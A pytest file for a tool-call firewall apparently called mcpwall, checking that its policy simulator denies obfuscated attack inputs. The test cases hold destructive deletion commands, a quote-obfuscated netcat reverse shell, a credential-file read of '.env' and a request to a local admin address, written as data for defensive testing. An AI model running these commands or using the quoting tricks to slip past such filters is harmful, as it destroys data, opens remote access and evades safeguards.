"""Issue 22 items 4-6 as a script sees them: `mcpwall simulate` on the shipped default policy.

Strategy: click's CliRunner in-process, the default template written with `defaultAction: allow`
(so that only a deny rule can refuse) and as shipped; one case per attack class (a quoted command,
a program fed its input, a credential file with a trailing slash, this machine's host name), each
of which `simulate` allowed on the old code, and an everyday call that stays allowed.
"""

from __future__ import annotations

import json
import socket
from pathlib import Path

import pytest
from click.testing import CliRunner

from mcpwall.cli import cli
from mcpwall.policy import template_text


def _simulate(tmp_path: Path, tool: str, args: dict[str, object], *, default: str = "allow") -> dict[str, object]:
    policy = tmp_path / "policy.yaml"
    policy.write_text(template_text("default").replace("defaultAction: deny", f"defaultAction: {default}"))
    result = CliRunner().invoke(cli, ["simulate", tool, "--args", json.dumps(args), "--policy", str(policy),
                                      "--json", "--home", str(tmp_path)])
    assert result.exit_code == 0, result.output
    data: dict[str, object] = json.loads(result.output)
    return data


@pytest.mark.parametrize(("tool", "args", "rule"), [
    ("run_command", {"command": "r\\m -rf /"}, "block-destructive-commands"),
    ("run_command", {"command": "n''c host 4444 -e /bin/sh"}, "block-reverse-shells"),
    ("run_command", {"command": "find / -delete"}, "block-destructive-commands"),
    ("run", {"command": "bash", "stdin": "r''m -rf ~"}, "block-destructive-commands"),
    ("read_text_file", {"path": "/workspace/.env/"}, "block-credential-files"),
    ("fetch", {"url": f"http://{socket.gethostname()}:9420/api/admin/timeline"}, "block-local-addresses"),
])
def test_simulate_denies_each_class_issue_22(tmp_path: Path, tool: str, args: dict[str, object], rule: str) -> None:
    if tool == "fetch":
        try:
            addresses = {i[4][0] for i in socket.getaddrinfo(socket.gethostname(), None)}
        except OSError:
            pytest.skip("this machine's host name does not resolve")
        if not all(str(a).startswith("127.") or str(a) == "::1" for a in addresses):
            pytest.skip("this machine's host name is not a loopback name")
    for default in ("allow", "deny"):
        data = _simulate(tmp_path, tool, args, default=default)
        assert data["action"] == "deny", data
        assert rule in data["rule_ids"], data  # type: ignore[operator]


def test_simulate_still_allows_an_everyday_workspace_read(tmp_path: Path) -> None:
    data = _simulate(tmp_path, "read_text_file", {"path": "/workspace/README.md"}, default="deny")
    assert data["action"] == "allow", data
